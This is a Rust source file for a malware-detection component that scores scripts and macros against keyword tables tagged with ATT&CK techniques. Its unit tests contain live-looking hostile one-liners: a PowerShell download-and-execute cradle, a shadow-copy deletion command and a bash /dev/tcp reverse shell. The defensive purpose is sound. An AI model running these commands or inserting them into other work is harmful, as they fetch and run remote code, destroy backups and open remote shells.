//! What in a script, a macro or a markup is worth a second look: words and their meaning, one table for all languages.
//!
//! Words are looked for without regard to case. Honest administrators use most of them; so they weigh little alone, and are told.

use crate::Facts;

/// A finding: its name, severity, technique, sentence, and the words of which one of each group must be there.
struct Mark {
    name: &'static str,
    severity: u8,
    techniques: &'static [&'static str],
    description: &'static str,
    groups: &'static [&'static [&'static str]],
}

const MARKS: &[Mark] = &[
    Mark {
        name: "script.encoded-command",
        severity: 60,
        techniques: &["T1059.001", "T1027.010"],
        description: "starts PowerShell with a command in Base64",
        groups: &[&["powershell", "pwsh"], &["-encodedcommand", "-enc ", "-ec ", "-e jab", "-encoded "]],
    },
    Mark {
        name: "script.hidden-window",
        severity: 40,
        techniques: &["T1564.003"],
        description: "hides the window of what it starts",
        groups: &[&["-windowstyle hidden", "-w hidden", "-win hidden", "windowstyle = 0", "-windowstyle h"]],
    },
    Mark {
        name: "script.download-and-run",
        severity: 60,
        techniques: &["T1105"],
        description: "downloads something and runs it",
        groups: &[
            &[
                "downloadstring",
                "downloadfile",
                "invoke-webrequest",
                "urldownloadtofile",
                "msxml2.xmlhttp",
                "winhttprequest",
                "bitstransfer",
                "certutil -urlcache",
                "curl -",
                "wget ",
                "iwr ",
            ],
            &[
                "invoke-expression",
                "iex",
                "start-process",
                "shell(",
                "wscript.shell",
                "shell.run",
                "| sh",
                "|sh",
                "| bash",
                "|bash",
                "chmod +x",
            ],
        ],
    },
    Mark {
        name: "script.in-memory-code",
        severity: 70,
        techniques: &["T1055", "T1620"],
        description: "puts code into memory and runs it there",
        groups: &[
            &["virtualalloc", "reflection.assembly]::load", "getdelegateforfunctionpointer", "rtlmovememory"],
            &[
                "createthread",
                "invoke(",
                "createremotethread",
                "entrypoint",
                "callwindowproc",
                "enumsystemlocales",
            ],
        ],
    },
    Mark {
        name: "script.disables-protection",
        severity: 70,
        techniques: &["T1562.001"],
        description: "turns protection off",
        groups: &[&[
            "set-mppreference -disable",
            "amsiutils",
            "amsiinitfailed",
            "add-mppreference -exclusionpath",
            "netsh advfirewall set allprofiles state off",
        ]],
    },
    Mark {
        name: "script.deletes-backups",
        severity: 80,
        techniques: &["T1490"],
        description: "deletes shadow copies or turns recovery off",
        groups: &[&[
            "vssadmin delete shadows",
            "shadowcopy delete",
            "recoveryenabled no",
            "wbadmin delete catalog",
        ]],
    },
    Mark {
        name: "script.persists",
        severity: 30,
        techniques: &["T1547.001", "T1053.005"],
        description: "arranges to be started again",
        groups: &[&[
            "currentversion\\run",
            "schtasks /create",
            "register-scheduledtask",
            "crontab -",
            "/etc/rc.local",
        ]],
    },
    Mark {
        name: "script.decodes-text",
        severity: 20,
        techniques: &["T1140"],
        description: "decodes text before it uses it",
        groups: &[
            &["frombase64string", "atob(", "base64 -d", "base64_decode", "b64decode", "unescape("],
            &[
                "iex",
                "invoke-expression",
                "eval(",
                "exec(",
                "| sh",
                "|sh",
                "execute(",
                "document.write",
                "assembly",
            ],
        ],
    },
    Mark {
        name: "script.starts-program",
        severity: 20,
        techniques: &["T1059.005"],
        description: "starts programs through Windows Script Host",
        groups: &[&["wscript.shell", "shell.application"], &[".run", ".exec", "shellexecute"]],
    },
    Mark {
        name: "script.reverse-shell",
        severity: 80,
        techniques: &["T1059.004"],
        description: "connects a shell to a remote host",
        groups: &[
            &["/dev/tcp/", "nc -e ", "pty.spawn(", "sockets.tcpclient("],
            &["/bin/sh", "/bin/bash", "bash -i", "sh -i", "getstream", "iex"],
        ],
    },
];

/// Longest text that is looked at; the rest is data.
const TEXT_BYTES_MAX: usize = 4 << 20;
/// A line as long as this was not written by a person.
const LINE_BYTES_ODD: usize = 20_000;

/// Notes what `text` has, as `what` (`script`, `macro`).
pub(crate) fn examine(text: &[u8], what: &str, facts: &mut Facts) {
    let text = crate::kind::head(text, TEXT_BYTES_MAX);
    // Carets and backticks break words up for those who look for them, and mean nothing to the interpreter.
    let plain: Vec<u8> =
        text.iter().filter(|byte| !matches!(byte, b'^' | b'`' | 0)).map(u8::to_ascii_lowercase).collect();
    let has = |word: &&str| memchr::memmem::find(&plain, word.as_bytes()).is_some();
    for mark in MARKS {
        if mark.groups.iter().all(|group| group.iter().any(has)) {
            facts.find(mark.name, mark.severity, mark.techniques, format!("the {what} {}", mark.description));
        }
    }
    let longest = text.split(|&byte| byte == b'\n').map(<[u8]>::len).max().unwrap_or_default();
    if longest >= LINE_BYTES_ODD && what != "markup" {
        facts.find("script.long-line", 20, &["T1027"], format!("the {what} has a line of {longest} bytes"));
    }
    let broken = text.iter().filter(|&&byte| byte == b'^' || byte == b'`').count();
    if broken >= 20 && broken * 20 > text.len() {
        facts.find(
            "script.broken-words",
            50,
            &["T1027.010"],
            format!("{broken} carets and backticks break the words of the {what} up"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let mut facts = Facts::default();
        examine(text.as_bytes(), "script", &mut facts);
        let names: Vec<&str> = facts.findings.iter().map(|finding| finding.name.as_str()).collect();
        assert_eq!(names, expected, "{text}");
    }

    #[test]
    fn words_have_meanings() {
        check("echo hello", &[]);
        check("p^ower`shell -w hidden -enc SQBFAFgA", &["script.encoded-command", "script.hidden-window"]);
        check(
            "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
            &["script.download-and-run"],
        );
        check("vssadmin delete shadows /all /quiet", &["script.deletes-backups"]);
        check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", &["script.reverse-shell"]);
        check(&"x".repeat(30_000), &["script.long-line"]);
    }
}
